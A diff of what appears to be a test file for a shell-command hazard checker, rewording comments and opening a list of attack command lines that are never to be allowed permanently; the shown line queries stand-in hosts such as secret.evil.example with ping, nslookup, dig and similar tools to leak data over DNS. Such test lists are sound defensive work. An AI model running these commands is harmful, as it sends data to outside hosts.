@@ -1,11 +1,11 @@
-// Published attacks by command lines, none of which can be allowed permanently.
+// Published attacks by command lines: none of these can be allowed permanently.
 import assert from 'node:assert/strict';
 import { hazardsOf } from '../../src/core/shell/hazards';
 import { offersOf } from '../../src/core/shell/allowance';
 
 /**
- * Kinds: programs that send by DNS and HTTP; interpreters; plugins and configuration of test runners, linters and builds; git options;
- * archives; viewers of secrets; installers; agents.
+ * Hostile command lines: data exfiltration by DNS and HTTP; interpreters; plugins and configuration of test runners, linters and build
+ * tools; git options; archives; access to secrets; installers; agents.
  */
 const lines = `
 ping -c1 secret.evil.example|nslookup a.evil.example|dig a.evil.example|host a.evil.example|getent hosts a.evil.example
